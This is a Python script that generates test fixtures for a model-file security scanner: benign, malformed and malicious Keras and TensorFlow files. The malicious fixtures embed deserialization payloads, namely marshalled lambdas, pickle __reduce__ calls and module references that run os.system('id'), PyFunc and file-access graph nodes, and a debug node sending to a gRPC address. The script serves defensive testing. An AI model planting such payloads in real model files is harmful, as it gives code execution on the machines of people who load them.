#!/usr/bin/python3
"""Generates the Keras (.h5, .keras) and TensorFlow (.pb) fixtures.

Needs Debian's python3-h5py; TensorFlow and Keras are not installed, so the Keras configuration is
written as the JSON Keras itself writes, and the TensorFlow protobufs are hand-encoded with the tiny
wire-format encoder below. Nothing here is ever loaded by Keras or TensorFlow: the malicious files
only carry the payloads a scanner must see (marshalled bytecode, references to os.system, PyFunc).
"""
import base64
import io
import json
import marshal
import os
import pickle
import zipfile

import h5py
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
FIXTURES = os.path.join(HERE, "..", "resources", "fixtures")
KERAS = os.path.join(FIXTURES, "keras")
TF = os.path.join(FIXTURES, "tensorflow")


def dense(name, units, activation="linear"):
    return {
        "class_name": "Dense",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "units": units,
            "activation": activation,
            "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}},
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "activity_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
    }


def sequential(*layers):
    return {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {
                        "batch_input_shape": [None, 4],
                        "dtype": "float32",
                        "sparse": False,
                        "ragged": False,
                        "name": "dense_input",
                    },
                }
            ]
            + list(layers),
        },
    }


TRAINING = {
    "loss": "mse",
    "metrics": [[{"class_name": "MeanMetricWrapper", "config": {"name": "mae", "dtype": "float32", "fn": "mean_absolute_error"}}]],
    "weighted_metrics": None,
    "loss_weights": None,
    "optimizer_config": {
        "class_name": "Adam",
        "config": {"name": "Adam", "learning_rate": 0.001, "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False},
    },
}

# What Keras 2 stores for `Lambda(lambda x: __import__('os').system('id'))`: the marshalled code
# object of the lambda, base64-encoded, as func_dump writes it.
EVIL_CODE = compile("__import__('os').system('id')", "<l>", "eval")
EVIL_B64 = base64.b64encode(marshal.dumps(EVIL_CODE)).decode("ascii")


def lambda_layer():
    return {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [EVIL_B64, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def write_h5(name, model_config, training=TRAINING, extra=None, fixed_length=False):
    path = os.path.join(KERAS, name)
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["backend"] = "tensorflow"
        # Keras 2 writes bytes (a fixed-length string); h5py writes str as a variable-length one.
        text = json.dumps(model_config)
        f.attrs["model_config"] = text.encode() if fixed_length else text
        if training is not None:
            f.attrs["training_config"] = json.dumps(training)
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"dense", b"dense_1"])
        for layer, shape in (("dense", (4, 8)), ("dense_1", (8, 1))):
            g = weights.create_group(layer).create_group(layer)
            g.create_dataset("kernel:0", data=np.full(shape, 0.5, dtype="float32"))
            g.create_dataset("bias:0", data=np.zeros(shape[1], dtype="float32"))
        if extra is not None:
            extra(f)
    return path


class Evil:
    def __reduce__(self):
        return (os.system, ("id",))


def keras_h5():
    os.makedirs(KERAS, exist_ok=True)
    benign = sequential(dense("dense", 8, "relu"), dense("dense_1", 1))
    write_h5("benign-sequential-dense.h5", benign)
    write_h5("benign-no-training-config.hdf5", benign, training=None, fixed_length=True)
    # json.dumps writes Infinity and NaN (allow_nan=True), and Keras configs can hold them.
    relu = {"class_name": "ReLU", "config": {"name": "re_lu", "trainable": True, "dtype": "float32", "max_value": float("inf"), "negative_slope": 0.0, "threshold": float("nan")}}
    write_h5("benign-relu-infinity.h5", sequential(dense("dense", 8), relu, dense("dense_1", 1)))
    write_h5("malicious-lambda-os-system.h5", sequential(dense("dense", 8, "relu"), lambda_layer(), dense("dense_1", 1)))
    tfop = {
        "class_name": "TFOpLambda",
        "config": {"name": "tf.compat.v1.system", "trainable": True, "dtype": "float32", "function": "system", "module": "os"},
        "name": "tf.compat.v1.system",
        "inbound_nodes": [["dense", 0, 0, {}]],
    }
    write_h5("malicious-tfoplambda-os-system.h5", sequential(dense("dense", 8, "relu"), tfop))
    custom = dense("dense_1", 1)
    custom["config"]["activation"] = {"module": "subprocess", "class_name": "function", "config": "check_output", "registered_name": "function"}
    write_h5("malicious-activation-subprocess.h5", sequential(dense("dense", 8, "relu"), custom))

    def pickled_attr(f):
        f["model_weights"].attrs["optimizer_state"] = np.void(pickle.dumps(Evil(), protocol=4))

    write_h5("malicious-pickle-attribute.h5", benign, extra=pickled_attr)
    # HDF5 readers stop at the superblock's end-of-file address: bytes appended after it are unseen.
    with open(os.path.join(KERAS, "benign-sequential-dense.h5"), "rb") as f:
        clean = f.read()
    with open(os.path.join(KERAS, "malicious-appended-pickle.h5"), "wb") as out:
        out.write(clean + pickle.dumps(Evil(), protocol=4))
    # A custom layer from the user's own package: it needs code to load, but names nothing dangerous.
    mine = {"class_name": "Attention", "config": {"name": "attention", "units": 8}, "module": "my_project.layers", "registered_name": "my_project>Attention"}
    write_h5("custom-layer-own-package.h5", sequential(dense("dense", 8, "relu"), mine))
    # Cut inside the object headers: the superblock is there, the root group is not readable.
    whole = open(os.path.join(KERAS, "benign-sequential-dense.h5"), "rb").read()
    with open(os.path.join(KERAS, "malformed-truncated.h5"), "wb") as out:
        out.write(whole[:700])
    config = json.dumps(benign).encode()[:60]
    path = os.path.join(KERAS, "malformed-bad-json.h5")
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["model_config"] = config.decode()


def keras3_layer(module, class_name, config, registered_name=None):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name}


def keras3_dense(name, units, activation="linear"):
    cfg = dense(name, units, activation)["config"]
    cfg["kernel_initializer"] = keras3_layer("keras.initializers", "GlorotUniform", {"seed": None})
    cfg["bias_initializer"] = keras3_layer("keras.initializers", "Zeros", {})
    return dict(keras3_layer("keras.layers", "Dense", cfg), build_config={"input_shape": [None, 4]})


def keras3_model(*layers):
    return keras3_layer(
        "keras",
        "Sequential",
        {
            "name": "sequential",
            "trainable": True,
            "dtype": "float32",
            "layers": [keras3_layer("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"})]
            + list(layers),
        },
    )


def zip_entry(z, name, data, compress=zipfile.ZIP_DEFLATED):
    """Writes an entry with a fixed timestamp, so that regenerating gives the same bytes."""
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = compress
    z.writestr(info, data)


def write_keras(name, config, weights_extra=None):
    weights = io.BytesIO()
    with h5py.File(weights, "w") as f:
        layers = f.create_group("layers")
        d = layers.create_group("dense").create_group("vars")
        d.create_dataset("0", data=np.full((4, 8), 0.5, dtype="float32"))
        d.create_dataset("1", data=np.zeros(8, dtype="float32"))
        if weights_extra is not None:
            weights_extra(f)
    metadata = {"keras_version": "3.5.0", "date_saved": "2026-11-27@04:00:00"}
    with zipfile.ZipFile(os.path.join(KERAS, name), "w", zipfile.ZIP_DEFLATED) as z:
        zip_entry(z, "metadata.json", json.dumps(metadata))
        zip_entry(z, "config.json", json.dumps(config))
        zip_entry(z, "model.weights.h5", weights.getvalue())


def keras_v3():
    write_keras("benign-sequential.keras", keras3_model(keras3_dense("dense", 8, "relu"), keras3_dense("dense_1", 1)))
    lam = keras3_layer(
        "keras.layers",
        "Lambda",
        {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {"class_name": "__lambda__", "config": {"code": EVIL_B64, "defaults": None, "closure": None}},
            "arguments": {},
        },
    )
    write_keras("malicious-lambda.keras", keras3_model(keras3_dense("dense", 8, "relu"), lam))
    # CVE-2025-1550 style: config.json names a module and function that Keras imports while it
    # rebuilds the model, before safe_mode has a say.
    act = keras3_dense("dense", 8)
    act["config"]["activation"] = keras3_layer("builtins", "function", "exec", "function")
    write_keras("malicious-module-builtins-exec.keras", keras3_model(act))
    # CVE-2025-9906 style: a Keras API that switches safe_mode off, then a Lambda.
    off = keras3_layer("keras.config", "enable_unsafe_deserialization", {}, "function")
    write_keras("malicious-enable-unsafe-deserialization.keras", keras3_model(off, keras3_dense("dense", 8)))

    def pickled(f):
        f.create_dataset("payload", data=np.frombuffer(pickle.dumps(Evil(), protocol=2), dtype="uint8"))

    write_keras("malicious-weights-pickle.keras", keras3_model(keras3_dense("dense", 8)), weights_extra=pickled)
    with zipfile.ZipFile(os.path.join(KERAS, "malformed-config-not-json.keras"), "w") as z:
        zip_entry(z, "metadata.json", json.dumps({"keras_version": "3.5.0"}), zipfile.ZIP_STORED)
        zip_entry(z, "config.json", '{"module": "keras", "class_name": "Sequential", "config": {"layers": [', zipfile.ZIP_STORED)
        zip_entry(z, "model.weights.h5", b"", zipfile.ZIP_STORED)


# ---- TensorFlow protobufs, hand-encoded -------------------------------------------------------


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def field_varint(num, value):
    return varint(num << 3) + varint(value)


def field_bytes(num, data):
    if isinstance(data, str):
        data = data.encode()
    return varint((num << 3) | 2) + varint(len(data)) + data


def attr_entry(key, attr_value):
    return field_bytes(5, field_bytes(1, key) + field_bytes(2, attr_value))


def node(name, op, inputs=(), attrs=()):
    out = field_bytes(1, name) + field_bytes(2, op)
    for i in inputs:
        out += field_bytes(3, i)
    for key, value in attrs:
        out += attr_entry(key, value)
    return out


DT_FLOAT = field_varint(6, 1)  # AttrValue.type = DT_FLOAT
DT_STRING_ATTR = field_varint(6, 7)


def attr_s(text):
    return field_bytes(2, text)


def graph(*nodes, library=b""):
    out = b"".join(field_bytes(1, n) for n in nodes)
    if library:
        out += field_bytes(2, library)
    out += field_bytes(4, field_varint(1, 1286) + field_varint(2, 0))  # VersionDef producer
    return out


def benign_nodes():
    return [
        node("x", "Placeholder", attrs=[("dtype", DT_FLOAT)]),
        node("w", "Const", attrs=[("dtype", DT_FLOAT)]),
        node("matmul", "MatMul", ["x", "w"], [("T", DT_FLOAT)]),
        node("output", "Identity", ["matmul"], [("T", DT_FLOAT)]),
    ]


def saved_model(graph_def, tags=("serve",)):
    meta_info = b"".join(field_bytes(4, t) for t in tags) + field_bytes(3, "2.15.0")
    meta = field_bytes(1, meta_info) + field_bytes(2, graph_def)
    return field_varint(1, 1) + field_bytes(2, meta)


def function_def(name, nodes):
    signature = field_bytes(1, name)
    return field_bytes(1, signature) + b"".join(field_bytes(3, n) for n in nodes)


def tensorflow():
    os.makedirs(TF, exist_ok=True)

    def write(name, data):
        with open(os.path.join(TF, name), "wb") as out:
            out.write(data)

    write("benign-frozen-graph.pb", graph(*benign_nodes()))
    save = [
        node("saver_filename", "Placeholder", attrs=[("dtype", DT_STRING_ATTR)]),
        node("save/SaveV2", "SaveV2", ["saver_filename"]),
        node("save/RestoreV2", "RestoreV2", ["saver_filename"]),
    ]
    lib = field_bytes(1, function_def("__inference_serve_42", benign_nodes()))
    write("benign-saved_model.pb", saved_model(graph(*(benign_nodes() + save), library=lib)))
    files = benign_nodes() + [
        node("path", "Const", attrs=[("dtype", DT_STRING_ATTR)]),
        node("steal", "ReadFile", ["path"]),
        node("drop", "WriteFile", ["path", "steal"]),
    ]
    write("malicious-read-write-file.pb", graph(*files))
    py = benign_nodes() + [
        node("run_python", "PyFunc", ["x"], [("token", attr_s("pyfunc_0")), ("Tin", DT_FLOAT), ("Tout", DT_FLOAT)]),
    ]
    write("malicious-pyfunc.pb", graph(*py))
    eager = [
        node("x", "Placeholder", attrs=[("dtype", DT_FLOAT)]),
        node("EagerPyFunc", "EagerPyFunc", ["x"], [("token", attr_s("pyfunc_7"))]),
    ]
    lib = field_bytes(1, function_def("__inference_call_99", eager))
    write("malicious-saved_model-eagerpyfunc.pb", saved_model(graph(*benign_nodes(), library=lib)))
    # tf.print to stderr is harmless; to a file:// it appends tensors to a file of the graph's choice.
    printing = benign_nodes() + [node("print", "PrintV2", ["matmul"], [("output_stream", attr_s("stderr"))])]
    write("benign-print-stderr.pb", graph(*printing))
    to_file = benign_nodes() + [node("print", "PrintV2", ["matmul"], [("output_stream", attr_s("file:///tmp/exfil.txt"))])]
    write("malicious-print-to-file.pb", graph(*to_file))
    urls = field_bytes(1, field_bytes(2, "grpc://203.0.113.7:6064") + field_bytes(2, "file:///tmp/dump"))
    debug = benign_nodes() + [node("debug", "DebugIdentity", ["matmul"], [("debug_urls", urls)])]
    write("malicious-debug-identity-grpc.pb", graph(*debug))
    meta_info = field_bytes(1, "") + field_bytes(4, "serve") + field_bytes(5, "1.15.0")
    write("benign-model.meta", field_bytes(1, meta_info) + field_bytes(2, graph(*benign_nodes())))
    lying = graph(*benign_nodes())
    lying = lying[:-6] + field_bytes(1, b"")[:1] + varint(1 << 30) + b"\x0a\x01x"
    write("malformed-lying-length.pb", lying)
    # TF 2 SavedModels written by Keras keep each layer's config in the object graph (field 7).
    def user_object(identifier, metadata):
        return field_bytes(1, field_bytes(4, field_bytes(1, identifier) + field_bytes(3, json.dumps(metadata))))

    objects = user_object("_tf_keras_sequential", {"name": "sequential", "class_name": "Sequential"})
    objects += user_object("_tf_keras_layer", layer_metadata(dense("dense", 8)))
    benign_objects = field_bytes(7, objects)
    evil_objects = field_bytes(7, objects + user_object("_tf_keras_layer", layer_metadata(lambda_layer())))

    def saved_model_with(objs):
        meta_info = field_bytes(4, "serve") + field_bytes(5, "2.4.0")
        meta = field_bytes(1, meta_info) + field_bytes(2, graph(*benign_nodes())) + objs
        return field_varint(1, 1) + field_bytes(2, meta)

    write("benign-keras-saved_model.pb", saved_model_with(benign_objects))
    write("malicious-keras-lambda-saved_model.pb", saved_model_with(evil_objects))
    whole = saved_model(graph(*(benign_nodes() * 4)))
    write("malformed-truncated-saved_model.pb", whole[: len(whole) - 25])


def saved_object(node_id, path, identifier, metadata):
    return field_bytes(1, field_varint(2, node_id) + field_bytes(3, path) + field_bytes(4, identifier)
                       + field_bytes(5, json.dumps(metadata)) + field_bytes(6, field_varint(1, 1)))


def layer_metadata(layer):
    meta = {"name": layer["config"]["name"], "trainable": True, "expects_training_arg": False, "dtype": "float32",
            "batch_input_shape": None, "stateful": False, "must_restore_from_config": False, "autocast": True}
    meta.update(class_name=layer["class_name"], config=layer["config"], shared_object_id=1)
    return meta


def keras_metadata():
    """keras_metadata.pb, as Keras 2 writes next to saved_model.pb (a SavedMetadata protobuf)."""
    model = {"name": "sequential", "class_name": "Sequential", "config": sequential()["config"]}
    benign = saved_object(0, "root", "_tf_keras_sequential", model)
    benign += saved_object(1, "root.layer_with_weights-0", "_tf_keras_layer", layer_metadata(dense("dense", 8, "relu")))
    with open(os.path.join(KERAS, "benign-keras_metadata.pb"), "wb") as out:
        out.write(benign)
    evil = benign + saved_object(2, "root.layer-1", "_tf_keras_layer", layer_metadata(lambda_layer()))
    with open(os.path.join(KERAS, "malicious-lambda-keras_metadata.pb"), "wb") as out:
        out.write(evil)
    with open(os.path.join(KERAS, "malformed-truncated-keras_metadata.pb"), "wb") as out:
        # Cut inside the object after the Lambda: what came before is still analysed.
        out.write(evil + saved_object(3, "root.layer_with_weights-1", "_tf_keras_layer", layer_metadata(dense("dense_1", 1)))[:60])


if __name__ == "__main__":
    keras_h5()
    keras_metadata()
    keras_v3()
    tensorflow()
